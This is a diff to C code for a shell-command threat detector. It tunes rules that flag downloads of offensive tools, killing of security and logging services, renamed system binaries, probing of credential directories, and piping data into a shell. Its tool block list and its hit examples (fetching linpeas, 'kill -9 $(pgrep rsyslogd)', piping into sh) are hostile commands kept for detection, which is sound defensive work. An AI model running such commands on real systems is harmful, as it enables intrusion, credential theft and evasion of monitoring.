@@ -20,27 +20,47 @@ static bool lore_contains(const struct shell_command *c, const char *const *word
 	return false;
 }
 
+/* How far a command's company is looked for: a script of nothing but kill would be read once for each otherwise. */
+enum { LORE_NEAR = 64 };
+
 #define LORE_CONTAINS(c, words) lore_contains(c, words, sizeof(words) / sizeof((words)[0]))
+
+/* Is one of the names in what is asked of a host?  What the host is called says nothing of a tool. */
+static bool lore_asks_for(const struct shell_command *c, const char *const *names, size_t n)
+{
+	for (size_t i = 1; i < c->n; i++) {
+		const char *s = c->argv[i].s, *host = strstr(s, "://");
+
+		if (s[0] == '-')
+			continue;
+		if (host)
+			s = host + 3 + strcspn(host + 3, "/");
+		for (size_t k = 0; k < n; k++)
+			if (strcasestr(s, names[k]))
+				return true;
+	}
+	return false;
+}
 
 static bool lore_fetches_tool(const struct shell_model *m, const struct shell_command *c)
 {
+	static const char *const hosts[] = {"exploit-db.com", "gsocket.io"};
 	static const char *const names[] = {
-		"linpeas",       "peass-ng",       "linenum",     "linux-exploit-suggester",
-		"lse.sh",        "/pspy",          "mimipenguin", "mimikatz",
-		"lazagne",       "/traitor",       "deepce",      "unix-privesc-check",
-		"xmrig",         "/chisel",        "ligolo",      "impacket",
-		"sharphound",    "powersploit",    "nishang",     "/reptile",
-		"diamorphine",   "dirtycow",       "dirty-pipe",  "dirtypipe",
-		"pwnkit",        "exploit-db.com", "/exploits/",  "revshell",
-		"reverse-shell", "reverse_shell",  "rootkit",     "webshell",
-		"weevely",       "gsocket.io",     "cdk-team",    "/pupy",
-		"merlinagent",   "sliver-client",  "keylogger",   "ransomware",
-		"/evil.",        "/malware",       "cve-20"};
+		"linpeas",       "peass-ng",    "linenum",     "linux-exploit-suggester",
+		"lse.sh",        "/pspy",       "mimipenguin", "mimikatz",
+		"lazagne",       "/traitor",    "deepce",      "unix-privesc-check",
+		"xmrig",         "/chisel",     "ligolo",      "impacket",
+		"sharphound",    "powersploit", "nishang",     "/reptile",
+		"diamorphine",   "dirtycow",    "dirty-pipe",  "dirtypipe",
+		"pwnkit",        "/exploits/",  "revshell",    "reverse-shell",
+		"reverse_shell", "rootkit",     "webshell",    "weevely",
+		"cdk-team",      "/pupy",       "merlinagent", "sliver-client",
+		"keylogger",     "ransomware",  "/evil.",      "/malware"};
 
 	if (strcmp(c->name, "git") == 0 && strcmp(rule_operand(c, 0), "clone") != 0)
 		return false;
 	(void)m;
-	return LORE_CONTAINS(c, names);
+	return LORE_CONTAINS(c, hosts) || lore_asks_for(c, names, sizeof(names) / sizeof(names[0]));
 }
 
 static bool lore_onion(const struct shell_model *m, const struct shell_command *c)
@@ -65,7 +85,8 @@ static bool lore_is_question(const struct shell_model *m, const struct shell_com
 
 static bool lore_keeps(const struct shell_model *m, const struct shell_command *c)
 {
-	if (!lore_is_question(m, c))
+	/* One answer that is put aside is a note; several are a stock. */
+	if (m->n < 2 || !lore_is_question(m, c))
 		return false;
 	for (size_t i = 0; i < c->n_redirects; i++)
 		if ((c->redirects[i].kind == REDIRECT_OUT ||
@@ -79,14 +100,17 @@ static bool lore_keeps(const struct shell_model *m, const struct shell_command *
 static bool lore_renames(const struct shell_model *m, const struct shell_command *c)
 {
 	const char *from = rule_operand(c, 0), *to = rule_operand(c, 1);
-	const char *base;
+	const char *base, *name;
 
 	if (!(str_starts(from, "/bin/") || str_starts(from, "/usr/bin/") ||
 	      str_starts(from, "/sbin/") || str_starts(from, "/usr/sbin/")) ||
 	    !*to || *rule_operand(c, 2))
 		return false;
 	base = strrchr(to, '/') ? strrchr(to, '/') + 1 : to;
-	return *base && strcmp(base, strrchr(from, '/') + 1) != 0 &&
+	name = strrchr(from, '/') + 1;
+	/* ls-copy is still called after ls; of a shell that is no excuse. */
+	return *base && strcmp(base, name) != 0 &&
+	       (rule_is_shell(name) || !*name || !str_starts(base, name)) &&
 	       (place_of(m->context, to, c->cwd, false) & (PLACE(TEMPORARY) | PLACE(HOME_BELOW)));
 }
 
@@ -95,23 +119,27 @@ static bool lore_dmi(const struct shell_model *m, const struct shell_command *c)
 	static const char *const paths[] = {"/sys/class/dmi/", "/sys/devices/virtual/dmi",
 					    "/proc/scsi/scsi", "/sys/hypervisor"};
 
-	(void)m;
+	/* What model it is, and nothing else: people ask that. */
+	if (m->n == 1 && str_ends(rule_operand(c, 0), "/product_name") && !*rule_operand(c, 1))
+		return false;
 	return LORE_CONTAINS(c, paths);
 }
 
 /* kill $(pidof x), x a service that guards or records */
 static bool lore_kills(const struct shell_model *m, const struct shell_command *c)
 {
-	static const char *const guards[] = {"syslog",   "auditd",   "falcon",   "wazuh",
-					     "ossec",    "sshd",     "osquery",  "clamd",
-					     "suricata", "crowdsec", "fail2ban", "sysmon",
-					     "mdatp",    "sentinel", "falco"};
+	static const char guards[] =
+		"syslogd rsyslogd rsyslog syslog-ng syslog auditd kauditd falcon-sensor falcond falcon wazuh-agentd "
+		"wazuh-agent wazuh ossec-agentd ossec-syscheckd ossec sshd osqueryd osquery clamd clamav suricata crowdsec "
+		"fail2ban fail2ban-server sysmon mdatp wdavdaemon sentinelone sentineld falco journald systemd-journald";
+	size_t at = (size_t)(c - m->commands);
+	size_t low = at > LORE_NEAR ? at - LORE_NEAR : 0;
 
-	(void)c;
-	for (size_t i = 0; i < m->n; i++)
-		if (rule_is("pgrep pidof", m->commands[i].name) &&
-		    LORE_CONTAINS(&m->commands[i], guards))
-			return true;
+	for (size_t i = low; i < at; i++)
+		if (rule_is("pgrep pidof", m->commands[i].name))
+			for (size_t k = 1; k < m->commands[i].n; k++)
+				if (rule_is(guards, m->commands[i].argv[k].s))
+					return true;
 	return false;
 }
 
@@ -171,7 +199,8 @@ static bool lore_removes_all(const struct shell_model *m, const struct shell_com
 			return true;
 	if (!(c->via & VIA_EACH))
 		return false;
-	for (size_t i = 0; i < m->n; i++)
+	for (size_t at = (size_t)(c - m->commands), i = at > LORE_NEAR ? at - LORE_NEAR : 0; i < at;
+	     i++)
 		if (m->commands[i].group == c->group && m->commands[i].is_piped &&
 		    rule_is("freeze list ls -l -qa -Q -q",
 			    m->commands[i].n > 1 ? m->commands[i].argv[1].s : ""))
@@ -181,8 +210,7 @@ static bool lore_removes_all(const struct shell_model *m, const struct shell_com
 
 static bool lore_others(const struct shell_model *m, const struct shell_command *c)
 {
-	static const char *const dirs[] = {"/.ssh",  "/.aws",     "/.gnupg",
-					   "/.kube", "/.mozilla", "/.config"};
+	static const char *const dirs[] = {"/.ssh", "/.aws", "/.gnupg", "/.kube", "/.mozilla"};
 
 	(void)m;
 	for (size_t i = 1; i < c->n; i++)
@@ -204,15 +232,28 @@ static bool lore_perl(const struct shell_model *m, const struct shell_command *c
 	return false;
 }
 
-/* What comes out of an archive goes straight into a shell. */
-static bool lore_unpacked(const struct shell_model *m, const struct shell_command *c)
+/* A shell that reads what one of the programs before it in the pipe writes. */
+static bool lore_is_fed(const struct shell_model *m, const struct shell_command *c, const char *by)
 {
 	if (!c->has_in || c == m->commands || (c->n > 1 && c->argv[1].s[0] != '-') ||
 	    rule_has(c, "-c"))
 		return false;
-	return c[-1].group == c->group && !rule_has(&c[-1], "-l|-t|--list|--test") &&
-	       rule_is("gunzip zcat gzip bzcat bunzip2 bzip2 xzcat unxz xz zstdcat unzstd zstd lz4cat unzip",
-		       c[-1].name);
+	return c[-1].group == c->group && rule_is(by, c[-1].name);
+}
+
+/* What comes out of an archive goes straight into a shell. */
+static bool lore_unpacked(const struct shell_model *m, const struct shell_command *c)
+{
+	return lore_is_fed(m, c,
+			   "gunzip zcat gzip bzcat bunzip2 bzip2 xzcat unxz xz zstdcat unzstd zstd "
+			   "lz4cat unzip") &&
+	       !rule_has(&c[-1], "-l|-t|--list|--test");
+}
+
+/* What stands in data, or is put together by an expression, goes straight into a shell. */
+static bool lore_from_data(const struct shell_model *m, const struct shell_command *c)
+{
+	return lore_is_fed(m, c, "jq gojq jaq yq xq dasel xmllint");
 }
 
 static bool lore_whois(const struct shell_model *m, const struct shell_command *c)
@@ -239,7 +280,9 @@ static bool lore_logs(const struct shell_model *m, const struct shell_command *c
 					   "/var/run/utmp"};
 
 	(void)m;
-	return LORE_CONTAINS(c, logs);
+	/* Who follows a log watches what happens now. */
+	return !(rule_is("tail", c->name) && rule_has(c, "-f|-F|--follow")) &&
+	       LORE_CONTAINS(c, logs);
 }
 
 #define ROW(kind, conf, lev) .type = FINDING_##kind, .level = THREAT_##lev, .confidence = conf
@@ -251,7 +294,7 @@ static const struct shell_rule lore_rows[] = {
 	 .programs = "curl wget git aria2c axel fetch http https",
 	 .test = lore_fetches_tool,
 	 .hit = "wget https://a.example/latest/linpeas.sh",
-	 .miss = "wget https://a.example/latest/install.sh"},
+	 .miss = "wget https://evil.example/cve-2024-1.json"},
 	{.id = "CMD-ONION",
 	 .reason = "It talks to a host whose place nobody knows.",
 	 ROW(NETWORK_ACCESS, 0.5, MEDIUM),
@@ -272,8 +315,8 @@ static const struct shell_rule lore_rows[] = {
 		 "whoami id w who users last lastlog finger netstat ss lsof ifconfig arp route lsmod groups env printenv "
 		 "set getent ps pstree mount findmnt systemctl service launchctl cat ls find file",
 	 .test = lore_keeps,
-	 .hit = "env > /tmp/e.txt",
-	 .miss = "env > e.txt"},
+	 .hit = "id; env > /tmp/e.txt",
+	 .miss = "env > /tmp/e.txt"},
 	{.id = "CMD-PROGRAM-RENAMED",
 	 .reason =
 		 "It puts a program of the system under another name where it can be taken for another one.",
@@ -281,15 +324,15 @@ static const struct shell_rule lore_rows[] = {
 	 .programs = "cp ln mv",
 	 .test = lore_renames,
 	 .hit = "cp /bin/sleep /tmp/crond",
-	 .miss = "cp /bin/sleep build/sleep"},
+	 .miss = "cp /bin/ls /tmp/ls-copy"},
 	{.id = "CMD-FIND-BOARD",
 	 .reason =
 		 "It asks the firmware what machine this is, as malware does to find out whether it is watched.",
 	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
 	 .programs = "cat tail head grep egrep strings",
 	 .test = lore_dmi,
-	 .hit = "cat /sys/class/dmi/id/product_name",
-	 .miss = "cat /sys/class/net/eth0/address"},
+	 .hit = "cat /sys/class/dmi/id/bios_vendor",
+	 .miss = "cat /sys/class/dmi/id/product_name"},
 	{.id = "CMD-GUARD-SIGNAL",
 	 .reason = "It kills a service that guards or records.",
 	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
@@ -297,7 +340,7 @@ static const struct shell_rule lore_rows[] = {
 	 .unless = "-0|-HUP|-l",
 	 .test = lore_kills,
 	 .hit = "kill -9 $(pgrep rsyslogd)",
-	 .miss = "kill -9 $(pgrep node)"},
+	 .miss = "kill -9 $(pgrep my-sshd-test)"},
 	{.id = "CMD-HISTORY-NEVER",
 	 .reason = "It sees to it that no command is written down from now on.",
 	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
@@ -341,7 +384,7 @@ static const struct shell_rule lore_rows[] = {
 	 .programs = "ls find tree du stat",
 	 .test = lore_others,
 	 .hit = "ls -la /home/*/.ssh",
-	 .miss = "ls -la /home/alice/src"},
+	 .miss = "ls -la /home/alice/.config"},
 	{.id = "CMD-PERL-UNPACKED",
 	 .reason = "It runs code that was packed so that nobody can read it.",
 	 ROW(DANGEROUS_PATTERN, 0.6, MEDIUM),
@@ -356,6 +399,13 @@ static const struct shell_rule lore_rows[] = {
 	 .test = lore_unpacked,
 	 .hit = "gunzip -c x.gz | sh",
 	 .miss = "gunzip -c x.gz | sort"},
+	{.id = "CMD-DATA-PIPE",
+	 .reason = "It runs what stands in data, and nobody has read that.",
+	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
+	 .programs = "sh bash dash zsh ksh ash",
+	 .test = lore_from_data,
+	 .hit = "jq -r .cmd a.json | sh",
+	 .miss = "jq -r .cmd a.json | sort"},
 	{.id = "CMD-WHOIS-SEND",
 	 .reason = "It sends data away in a question to a server of somebody's choice.",
 	 ROW(DATA_LEAK, 0.5, MEDIUM),
@@ -375,11 +425,11 @@ static const struct shell_rule lore_rows[] = {
 	 .reason = "It opens, as root, a program from which a shell can be had.",
 	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
 	 .programs =
-		 "vi vim nvim view ex ed emacs nano pico python python2 python3 perl ruby irb pry lua node php tclsh wish "
+		 "view ex ed pico python python2 python3 perl ruby irb pry lua node php tclsh wish "
 		 "ghci R octave gdb ftp sqlite3 mysql psql jshell mc ranger nnn less more minicom cpan expect ipython",
 	 .test = lore_root_shell,
-	 .hit = "sudo vim",
-	 .miss = "sudo vim /etc/hosts"},
+	 .hit = "sudo gdb",
+	 .miss = "sudo vim"},
 	{.id = "CMD-ENCRYPT-FILES",
 	 .reason = "It makes files unreadable for whoever has no key.",
 	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
@@ -394,7 +444,7 @@ static const struct shell_rule lore_rows[] = {
 		 "cat tail head less more strings zip tar cp base64 xxd utmpdump grep awk sed curl",
 	 .test = lore_logs,
 	 .hit = "cat /var/log/auth.log",
-	 .miss = "cat /var/log/nginx/access.log"},
+	 .miss = "sudo tail -f /var/log/auth.log"},
 };
 
 const struct shell_rules shell_rules_lore = {lore_rows, sizeof(lore_rows) / sizeof(lore_rows[0])};
